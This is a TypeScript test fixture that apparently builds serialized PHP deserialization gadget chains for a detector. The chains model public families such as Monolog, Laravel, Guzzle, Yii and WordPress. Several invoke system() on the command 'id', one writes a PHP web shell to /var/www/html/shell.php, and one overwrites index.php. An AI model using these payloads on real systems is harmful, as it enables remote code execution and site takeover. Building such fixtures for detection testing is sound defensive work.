/**
 * phpggc-like gadget chains written by hand with the test serializer: the
 * class and property layouts follow the public chain families (Monolog,
 * Laravel, Guzzle, Symfony, Yii, Doctrine, SwiftMailer, WordPress Requests,
 * Drupal/Guzzle FnStream, Faker); the commands are harmless placeholders.
 */
import { arr, custom, list, obj, priv, prot, raw, ser } from './build.js';

const cmd = 'id';

export const monologRce1 = ser(
  obj('Monolog\\Handler\\SyslogUdpHandler', {
    [prot('socket')]: obj('Monolog\\Handler\\BufferHandler', {
      [prot('handler')]: raw('r:2;'),
      [prot('bufferSize')]: -1,
      [prot('buffer')]: list(arr([0, cmd], ['level', null])),
      [prot('level')]: null,
      [prot('initialized')]: true,
      [prot('bufferLimit')]: -1,
      [prot('processors')]: list('current', 'system'),
    }),
  }),
);

export const laravelPendingBroadcast = ser(
  obj('Illuminate\\Broadcasting\\PendingBroadcast', {
    [prot('events')]: obj('Illuminate\\Bus\\Dispatcher', {
      [prot('queueResolver')]: 'system',
    }),
    [prot('event')]: obj('Illuminate\\Broadcasting\\BroadcastEvent', { connection: cmd }),
  }),
);

export const laravelFaker = ser(
  obj('Illuminate\\Broadcasting\\PendingBroadcast', {
    [prot('events')]: obj('Faker\\Generator', { [prot('formatters')]: arr(['dispatch', 'system']) }),
    [prot('event')]: cmd,
  }),
);

export const guzzleFileCookieJar = ser(
  obj('GuzzleHttp\\Cookie\\FileCookieJar', {
    [priv('GuzzleHttp\\Cookie\\CookieJar', 'cookies')]: list(
      obj('GuzzleHttp\\Cookie\\SetCookie', {
        [priv('GuzzleHttp\\Cookie\\SetCookie', 'data')]: arr(['Expires', 1], ['Discard', false], ['Value', '<?php system($_GET[0]); ?>']),
      }),
    ),
    [priv('GuzzleHttp\\Cookie\\CookieJar', 'strictMode')]: false,
    [priv('GuzzleHttp\\Cookie\\FileCookieJar', 'filename')]: '/var/www/html/shell.php',
    [priv('GuzzleHttp\\Cookie\\FileCookieJar', 'storeSessionCookies')]: true,
  }),
);

export const symfonyProcess = ser(
  obj('Symfony\\Component\\Process\\Pipes\\WindowsPipes', {
    [priv('Symfony\\Component\\Process\\Pipes\\WindowsPipes', 'files')]: list('/tmp/victim'),
  }),
);

export const yiiBatchQueryResult = ser(
  obj('yii\\db\\BatchQueryResult', {
    [priv('yii\\db\\BatchQueryResult', '_dataReader')]: obj('Faker\\Generator', {
      [prot('formatters')]: arr(['close', list(obj('yii\\rest\\CreateAction', { checkAccess: 'system', id: cmd }), 'run')]),
    }),
  }),
);

export const doctrineCache = ser(
  obj('Doctrine\\Common\\Cache\\Psr6\\CacheAdapter', {
    [priv('Doctrine\\Common\\Cache\\Psr6\\CacheAdapter', 'deferredItems')]: list(
      obj('Doctrine\\Common\\Cache\\Psr6\\TypedCacheItem', { value: '<?php phpinfo(); ?>', expiry: 1 }),
    ),
  }),
);

export const swiftTempFile = ser(
  obj('Swift_ByteStream_TemporaryFileByteStream', {
    [priv('Swift_ByteStream_FileByteStream', '_path')]: '/var/www/html/index.php',
    [priv('Swift_ByteStream_FileByteStream', '_mode')]: 'w+b',
  }),
);

export const wordpressRequests = ser(
  obj('Requests_Utility_FilteredIterator', {
    [priv('Requests_Utility_FilteredIterator', 'callback')]: 'system',
    [priv('ArrayIterator', 'storage')]: list(cmd),
  }),
);

export const drupalFnStream = ser(
  obj('GuzzleHttp\\Psr7\\FnStream', {
    methods: arr(['close', list(obj('GuzzleHttp\\HandlerStack', { [priv('GuzzleHttp\\HandlerStack', 'handler')]: cmd }), 'resolve')]),
    _fn_close: 'phpinfo',
  }),
);

/** An application class that is not a known gadget (still an object: DW-PHP-001). */
export const appObject = ser(obj('App\\Cache\\TempFile', { cleanup: 'eval', arg: "system('id');" }));

/** ArrayObject custom serialization (C:) wrapping a gadget. */
export const arrayObjectWrapping = ser(custom('ArrayObject', `x:i:0;${monologRce1};m:a:0:{}`));

export const allChains: Record<string, string> = {
  monologRce1,
  laravelPendingBroadcast,
  laravelFaker,
  guzzleFileCookieJar,
  symfonyProcess,
  yiiBatchQueryResult,
  doctrineCache,
  swiftTempFile,
  wordpressRequests,
  drupalFnStream,
  arrayObjectWrapping,
};
